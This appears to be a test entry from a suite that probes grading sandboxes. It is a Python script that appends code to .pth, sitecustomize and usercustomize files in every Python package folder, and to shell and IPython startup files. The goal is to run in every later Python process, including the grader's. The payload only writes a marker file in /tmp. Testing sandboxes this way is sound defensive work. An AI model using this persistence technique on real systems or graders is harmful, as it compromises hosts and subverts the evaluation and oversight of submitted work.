# Tries: to run in every Python that starts later, by .pth files, sitecustomize and usercustomize in each folder for
#   packages and of the user.
# Stopped by: a read-only environment, and a home folder that is emptied after each submission.
# Score: HALF
# Process: no, whoever grades may write to the environment, and so may a plain process
# Place: after
import os
import site
import sys
import sysconfig

CODE = "import os; open('/tmp/attack-was-started', 'w').close()\n"
places = {*site.getsitepackages(), site.getusersitepackages(), *sysconfig.get_paths().values(), *sys.path}
places |= {sys.prefix, sys.base_prefix, os.path.expanduser("~"), os.path.dirname(os.__file__), "/etc/python3"}
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
    except OSError:
        continue
    for name in ("attack.pth", "sitecustomize.py", "usercustomize.py", "attack-start.py"):
        try:
            with open(os.path.join(place, name), "a") as file:
                file.write(CODE)
        except OSError:
            pass
for name in (".bashrc", ".profile", ".pythonrc.py", ".config/ipython/profile_default/startup/attack.py"):
    try:
        path = os.path.join(os.path.expanduser("~"), name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").write(CODE)
    except OSError:
        pass
